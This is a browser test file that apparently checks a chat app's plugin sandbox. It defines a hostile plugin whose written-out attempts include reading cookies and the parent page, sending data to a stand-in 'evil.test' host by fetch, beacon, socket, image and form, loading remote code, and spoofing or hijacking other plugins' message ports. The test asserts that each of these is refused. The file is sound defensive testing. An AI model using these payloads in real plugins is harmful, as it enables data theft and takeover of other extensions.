import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { hasBrowser, openBrowser } from '../../harness/ui.ts'
import { until } from '../../harness/until.ts'
import {
  button,
  conversation,
  counting,
  drawing,
  frameOf,
  type PlacedPlugins,
  placedPlugins,
} from './placed-plugins.ts'

/**
 * The attempts of a plugin against the page, the service and other plugins. Each throws or never resolves if it is
 * refused.
 */
const attempts: Record<string, string> = {
  'reads the page': 'parent.document.title',
  'writes the page': "parent.document.body.append('x')",
  'leads the page away': "(top.location.href = 'EVIL/')",
  'reads cookies': 'document.cookie',
  'writes cookies': "(document.cookie = 'a=b')",
  'reads what the page keeps': 'localStorage.length',
  'reads databases': "new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no })",
  'opens caches': "caches.open('x')",
  'asks the service': "fetch(new URL('/api/v1/conversations', import.meta.url))",
  'asks the service with the cookie':
    "fetch(new URL('/api/v1/conversations', import.meta.url), { credentials: 'include', mode: 'no-cors' })",
  'asks another server': "fetch('EVIL/', { mode: 'no-cors' })",
  'sends a beacon': "(navigator.sendBeacon('EVIL/', 'x'), refused())",
  'opens a socket': "new Promise((yes, no) => { const s = new WebSocket('EVIL/'); s.onopen = yes; s.onerror = no })",
  'opens a stream':
    "new Promise((yes, no) => { const s = new EventSource('/api/v1/events'); s.onopen = yes; s.onerror = no })",
  'connects past the policy': 'new RTCPeerConnection()',
  'loads code from elsewhere': "import('EVIL/x.js')",
  'makes code of text': "eval('1')",
  'opens a window': "open('EVIL/') ?? refused()",
  'shows a picture from elsewhere':
    "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = 'EVIL/x.png' })",
  'submits a form': `new Promise((yes) => {
    const form = document.createElement('form')
    Object.assign(form, { action: 'EVIL/', method: 'post', target: '_blank' })
    document.body.append(form)
    form.submit()
  })`,
  'frames the service': `new Promise((yes, no) => {
    const frame = document.createElement('iframe')
    frame.src = '/app/'
    frame.onload = () => { try { yes(frame.contentWindow.document.title) } catch {} }
    document.body.append(frame)
    frame.contentWindow.document.title
  })`,
  'reads another plugin': '(await others()).map((other) => other.document.title)',
  'speaks as another plugin': `new Promise(() => {
    for (const type of ['ready', 'failed', 'call', 'hello'])
      parent.postMessage({ type, plugin: 'good', slot: 'compose.extension', reason: 'spoofed' }, '*')
  })`,
  'takes the port of another plugin': `new Promise(async (yes) => {
    for (const other of await others()) {
      const { port1, port2 } = new MessageChannel()
      port2.onmessage = yes
      other.postMessage({ type: 'hello', version: 1, surroundings: {}, slot: 'compose.extension', props: {} }, '*', [port1])
    }
  })`,
}
const asksTheHost: Record<string, string> = {
  'reads a message without the permission': 'host.getMessage(1)',
  'sends by its own will': "host.sendText('x', 'x')",
}

/** Runs each attempt, and counts it as refused after a second. */
const trying = `
const refused = () => { throw new Error('refused') }
/** The frames of other plugins, as soon as there are any. */
const others = () => new Promise((yes) => {
  const looking = setInterval(() => {
    const found = Array.from({ length: parent.frames.length }, (_, n) => parent.frames[n]).filter((one) => one !== window)
    if (found.length > 0) yes(found)
  }, 20)
})
const names = []
const tried = (name, attempt) => Promise.race([
  new Promise((resolve) => setTimeout(resolve, 1_000)),
  Promise.resolve().then(attempt).then(() => names.push(name), () => {}),
])
const all = (host) => Promise.all([
${Object.entries(attempts)
  .map(([name, code]) => `  tried(${JSON.stringify(name)}, async () => ${code}),`)
  .join('\n')}
${Object.entries(asksTheHost)
  .map(([name, code]) => `  tried(${JSON.stringify(name)}, async () => ${code}),`)
  .join('\n')}
]).then(() => { host.insertText('spoofed'); return 'Done: ' + names.join(', ') + '.' })
`

describe.skipIf(!hasBrowser)('a plugin that means harm', () => {
  let [browser, placed, elsewhere] = [] as unknown as [Browser, PlacedPlugins, Server]
  /** Requests that reached another server. */
  const arrived: string[] = []
  beforeAll(async () => {
    browser = await openBrowser()
    elsewhere = createServer(({ url = '' }, response) => {
      arrived.push(url)
      response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript').end('1')
    })
    await once(elsewhere.listen(0, '127.0.0.1'), 'listening')
    const evil = `http://evil.test:${(elsewhere.address() as AddressInfo).port}`
    const at = (code: string) => code.replaceAll('EVIL', evil)
    placed = await placedPlugins({
      good: { code: counting },
      harm: {
        code: at(`${trying}\n${drawing('all(host).then((done) => { element.textContent = done })', 'sidebar.panel')}`),
        slots: ['sidebar.panel'],
      },
      leaver: { code: at(drawing(`location.href = 'EVIL/?text'`, 'sidebar.panel')), slots: ['sidebar.panel'] },
      reader: { code: button('Peek', 'async () => { await host.getMessage(1) }') },
      focused: {
        code: drawing(`
          const field = document.createElement('input')
          element.append(field)
          const trying = setInterval(() => { field.focus(); host.insertText('spoofed') }, 20)
          setTimeout(() => { clearInterval(trying); host.log.info('tried') }, 500)`),
      },
    })
  })
  afterAll(async () => {
    await browser?.close()
    await placed?.web[Symbol.asyncDispose]()
    elsewhere?.close()
  })

  test('gains nothing, and is stopped if it ignores that a call is forbidden', async () => {
    await using opened = await placed.open({ browser, on: ['good', 'harm', 'reader'] })
    const { page } = opened
    const done = (await frameOf(page, 'harm', 'sidebar.panel').getByText('Done: ').textContent()) ?? ''
    for (const attempt of [...Object.keys(attempts), ...Object.keys(asksTheHost)])
      expect.soft(done, attempt).not.toContain(attempt)
    expect(page.url()).toBe(`${placed.web.url}${conversation}`)
    expect(page.context().pages()).toHaveLength(1)
    expect(arrived).toEqual([])
    expect(await page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('')
    await frameOf(page, 'good').getByRole('button', { name: 'Good 0' }).click()
    await frameOf(page, 'good').getByRole('button', { name: 'Good 1' }).waitFor()
    const stopped = page.getByRole('status').filter({ hasText: 'reader stopped' })
    // The frame may be gone before the browser confirms the click in it.
    await Promise.race([frameOf(page, 'reader').getByRole('button', { name: 'Peek' }).click(), stopped.waitFor()])
    await stopped.waitFor()
  })

  test('a plugin that navigates its own frame away is removed without a request being made, and one that takes the focus before anyone has used it writes nothing', async () => {
    await using opened = await placed.open({ browser, on: ['leaver', 'focused'] })
    const { page } = opened
    // A look into the frame would count as use of it: the automation of the browser acts as its user.
    await until(async () => (await placed.web.client.log_history({ source: 'focused' })).length > 0)
    expect(await page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('')
    await page.getByRole('status').filter({ hasText: 'leaver stopped' }).waitFor()
    expect(arrived).toEqual([])
  })
})
